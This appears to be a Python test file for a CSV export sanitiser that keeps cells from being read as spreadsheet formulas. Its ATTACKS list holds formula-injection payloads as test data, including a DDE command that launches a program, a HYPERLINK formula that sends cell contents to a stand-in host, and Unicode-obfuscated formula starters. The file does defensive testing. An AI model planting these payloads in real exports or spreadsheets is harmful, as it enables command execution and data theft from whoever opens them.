"""Cells that stay text in every spreadsheet, whatever somebody wrote."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from intake.services.lists.csv_text import STARTERS, as_text, csv_line

ATTACKS = [
    "=1+1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "\ufe66 1",
    "\x00=1+1",
]  # fmt: skip


@pytest.mark.attack("formulas in a table for spreadsheets", refusal="it stays text, with an apostrophe in front")
@pytest.mark.parametrize("typed", ATTACKS)
def test_what_begins_as_a_formula_gets_an_apostrophe_and_loses_nothing(typed: str) -> None:
    cell = as_text(typed)

    assert cell.startswith("'") or cell.replace("\n'", "\n").replace("\r'", "\r").replace("\t'", "\t") == typed
    assert not _computes(cell)


@pytest.mark.attack("a formula behind the semicolon by which some countries split", refusal="it stays text there too")
@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("typed", ["=1+1", " +1", "@SUM(A1)", "-1", "＝1"])
def test_a_piece_that_another_separator_makes_is_no_formula_either(separator: str, typed: str) -> None:
    line = csv_line([f"Notes{separator}{typed}", 'quoted";=1']).decode()

    for piece in line.replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n"):
        assert not _computes(piece.strip('"'))


@pytest.mark.attack("a formula behind the semicolon by which some countries split", refusal="it stays text there too")
@example(['x;"=1+1;y'])
@given(st.lists(st.text(alphabet="=+@;\t\"'a\u200b ", max_size=12), min_size=1, max_size=3))
def test_a_reader_with_another_separator_finds_no_formula(cells: list[str]) -> None:
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(csv_line(["UC-1", *cells]).decode(), newline=""), delimiter=separator):
            assert not any(map(_begins_formula, row))


@pytest.mark.parametrize(
    "typed", ["", "Scoring", "2026-11-30", "a=b", "3 - 2", "mail@example.org", "(=)", "'quoted'", "Ü"]
)
def test_other_text_is_as_it_was(typed: str) -> None:
    assert as_text(typed) == typed


def test_a_tab_or_line_end_in_front_is_text_too() -> None:
    assert [as_text(f"{begin}x")[0] for begin in "\t\r\n"] == ["'"] * 3


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_a_line_is_read_back_cell_by_cell(cells: list[str]) -> None:
    (found,) = csv.reader(io.StringIO(csv_line(cells).decode(), newline=""), strict=True)

    assert found == [as_text(cell) for cell in cells]
    assert [_plain(cell) for cell in found] == [_plain(cell) for cell in cells]


@given(st.text(alphabet=STARTERS + " \t\r\n;'\"ab\u200b\ufeff\u00a0", max_size=20))
def test_no_mixture_of_signs_begins_a_formula(typed: str) -> None:
    assert not _computes(as_text(typed))


def _computes(cell: str) -> bool:
    """Whether a program that passes over what is not seen would find a formula there."""
    return cell[:1] in ("\t", "\r", "\n") or _begins_formula(cell)


def _begins_formula(cell: str) -> bool:
    return cell.lstrip().lstrip("\x00\u200b\ufeff\u202e\u00a0 \t\r\n")[:1] in tuple(STARTERS)


def _plain(cell: str) -> str:
    return cell.replace("'", "")
